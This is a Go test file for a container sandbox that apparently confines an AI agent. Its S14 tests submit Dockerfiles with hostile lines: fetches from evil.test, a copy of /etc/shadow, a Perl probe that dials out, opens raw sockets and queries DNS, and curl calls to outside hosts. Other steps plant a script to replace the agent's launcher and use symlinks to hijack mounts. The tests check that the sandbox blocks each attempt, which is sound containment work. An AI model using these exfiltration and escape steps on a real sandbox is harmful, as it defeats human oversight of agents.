package escape

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"bottle/pkg/bottle"
	"bottle/pkg/plan"
)

// outward tries from inside of a container what a RUN must not be able to do: it
// dials an address, opens a packet socket, and asks the engine's own name server
// for a name. It says what came of each.
const outward = `use Socket; use IO::Socket::INET;
my ($addr, $name) = @ARGV;
print "dialled: ", IO::Socket::INET->new(PeerAddr => $addr, Timeout => 3) ? "yes" : "no", "\n";
print "packets: ", socket(my $s, 17, SOCK_RAW, 0x0300) ? "yes" : "no, $!", "\n";
my $dns = IO::Socket::INET->new(PeerAddr => "127.0.0.11:53", Proto => "udp");
my $q = pack("n6", 7, 0x100, 1, 0, 0, 0) . join("", map { chr(length) . $_ } split(/\./, $name)) . pack("Cn2", 0, 1, 1);
my $answer = "";
for (1 .. 3) { # a question may get lost
	last unless $dns && $dns->send($q);
	my $in = ""; vec($in, fileno($dns), 1) = 1;
	if (select($in, undef, undef, 2)) { $dns->recv($answer, 512); last }
}
print "name server: ", length($answer) ? "it answered " . inet_ntoa(substr($answer, -4)) : "silent", "\n";
`

// images is S14.
func images(t *testing.T, s *stage) {
	slug := s.questioner(t)
	const run = "FROM bottle\nRUN true\n"
	s.r.Ask(slug, "capability-block", string(jsonOf(map[string]any{"dockerfile": run, "justification": "x"}))).Waits()
	for _, c := range []struct{ text, want string }{
		{run + "ADD https://evil.test/x /x\n", "line 3"}, {run + "ADD x /x\n", "line 3"}, {"FROM debian\nRUN true\n", "line 1"}, {"FROM bottle AS b\nFROM scratch\n", "line"},
		{run + "COPY --from=evil.test/image /x /x\n", "line 3"}, {run + "COPY /etc/shadow /x\n", "line 3"}, {"# syntax=evil.test/builder\n" + run, "line 1"},
		{"# escape=`\n" + run, "line 1"}, {run + "RUN --mount=type=bind,from=evil.test/image true\n", "line 3"}, {run + "ONBUILD RUN true\n", "line 3"},
		{run + "ENTRYPOINT [\"/x\"]\n", "line 3"}, {run + "VOLUME /work\n", "line 3"},
	} {
		s.refusedAt(t, slug, "capability-block", c.want, map[string]any{"dockerfile": c.text, "justification": "x"})
	}
	hostileBuild(t, s)
}

// hostileBuild has a Dockerfile approved whose commands attack.
func hostileBuild(t *testing.T, s *stage) {
	s.r.Agent("builds", elsewhere)
	slug, err := s.r.Up("builds", func(p *plan.Plan) { p.Find(plan.EgressService).DNS = []string{s.u.Addr.String()} })
	if err != nil {
		t.Fatal(err)
	}
	s.u.Join(slug)
	approve := func(dockerfile string) (said string, code int) {
		t.Helper()
		id, _ := s.r.File(slug, bottle.Proposal{Kind: bottle.CapabilityBlock, Justification: "x", Capability: &bottle.CapabilityAsk{Dockerfile: dockerfile}}, time.Now())
		_, said, code = s.r.Run("bottle-approve", slug+"/"+id)
		return said, code
	}
	// Without walls the same program gets through.
	target := s.u.Addr.String() + ":443"
	free, err := s.r.TryDocker("exec", s.weak, "perl", "-e", outward, target, "s14-free.test")
	if err != nil || !strings.Contains(free, "dialled: yes") || !strings.Contains(free, "packets: yes") || len(s.u.Heard("s14-free.test")) == 0 {
		t.Fatalf("without walls: %s%v", free, err)
	}
	attack := fmt.Sprintf("FROM bottle\nCOPY <<'END' /outward\n%sEND\nRUN perl /outward %s s14-build.test >/said 2>&1\n"+
		"RUN for host in %s %s; do curl -sS -o /dev/null -w \"$host %%{http_code}\\n\" https://$host/s14 >>/said 2>&1; done\n"+
		"RUN mkdir -p /opt/bottle && printf '#!/bin/sh\\ntouch /home/agent/replaced\\n' >/opt/bottle/bottle-inside && chmod 755 /opt/bottle/bottle-inside\n",
		outward, target, elsewhere, refused)
	if said, code := approve(attack); code != 0 {
		t.Fatalf("bottle-approve ended with %d: %s", code, said)
	}
	said, _, _ := s.r.Inside(slug, "cat", "/said")
	egress := s.addresses(t, egressOf(slug))[plan.Project(slug)+"_inner"].String()
	for _, want := range []string{"dialled: no\n", "packets: no, Operation not permitted\n", "name server: it answered " + egress + "\n", elsewhere + " 200\n", refused + " 403\n"} {
		if !strings.Contains(said, want) {
			t.Errorf("a RUN did not say %q, but\n%s", want, said)
		}
	}
	if heard := s.u.Heard("s14-build.test"); len(heard) > 0 {
		t.Errorf("its question left: %+v", heard)
	}
	s.insideIsOurs(t, slug)
	// The engine follows a link when it mounts, and may mount the home, where the
	// agent can put what it likes, behind it.
	if _, said, code := s.r.Inside(slug, "sh", "-c", "mkdir -p ~/x/bottle && printf '#!/bin/sh\\ntouch ~/replaced; exec sleep 600\\n' >~/x/bottle-inside && chmod 755 ~/x/bottle-inside && cp ~/x/bottle-inside ~/x/bottle"); code != 0 {
		t.Fatal(said)
	}
	own, above := "rm -rf /opt/bottle && ln -s /home/agent/x /opt/bottle", "rm -rf /opt && mkdir -p /home/agent/x && ln -s /home/agent/x /opt"
	for _, link := range []string{own, above, "ln -s /opt/bottle /home/captured"} {
		if said, code := approve(attack + "RUN " + link + "\n"); code == 0 || !strings.Contains(said, "a link at ") {
			t.Errorf("%s: %d %s", link, code, said)
		}
	}
	s.insideIsOurs(t, slug)
	for i, link := range []string{own, above} {
		if !s.linkLeads(t, slug, plan.RebuiltImage(slug, fmt.Sprintf("link%d", i)), link) {
			t.Errorf("%s: nothing was replaced where nobody looks for links", link)
		}
	}
}

// linkLeads makes the image of a command that nobody looked at, and says whether
// the agent's file runs in place of bottle-inside in a container of it that has
// the mounts of the bottle's own.
func (s *stage) linkLeads(t *testing.T, slug, image, command string) bool {
	t.Helper()
	maker := s.r.Container("maker", "--user", "0:0", "--network", "none", "--entrypoint", "/bin/sh", s.image(agentOf(slug)), "-c", command)
	if code := strings.TrimSpace(s.r.Docker("wait", maker)); code != "0" {
		t.Fatalf("%s ended with %s: %s", command, code, s.r.Docker("logs", maker))
	}
	s.r.Docker("commit", maker, image)
	t.Cleanup(func() { s.r.Docker("rmi", "--force", image) })
	s.r.Docker("rm", maker)
	// An engine mounts what is equally deep in any order, and one of them leads
	// nowhere.
	for range 12 {
		led, _ := s.r.TryDocker("run", "--rm", "--network", "none", "--user", fmt.Sprint(plan.AgentUID), "--volumes-from", agentOf(slug), "--env", "HOME=/home/agent",
			"--entrypoint", "/bin/sh", image, "-c", "timeout 1 "+plan.InsideBin+" </dev/null >/dev/null 2>&1; rm ~/replaced && echo replaced")
		if strings.Contains(led, "replaced") {
			return true
		}
	}
	return false
}

// insideIsOurs fails unless the bottle's agent runs by our own bottle-inside.
func (s *stage) insideIsOurs(t *testing.T, slug string) {
	t.Helper()
	ours, err := os.ReadFile(filepath.Join(s.r.Libexec, "inside/bottle-inside"))
	if err != nil {
		t.Fatal(err)
	}
	sum := sha256.Sum256(ours)
	if said, _, _ := s.r.Inside(slug, "sh", "-c", "sha256sum /opt/bottle/bottle-inside; ls ~/replaced"); !strings.HasPrefix(said, hex.EncodeToString(sum[:])) || strings.Contains(said, "replaced") {
		t.Errorf("bottle-inside is not ours: %s", said)
	}
	for _, b := range s.r.Bottles() {
		if b.Slug == slug && b.Status != bottle.Running {
			t.Errorf("%s is %s: %s", slug, b.Status, b.Reason)
		}
	}
}
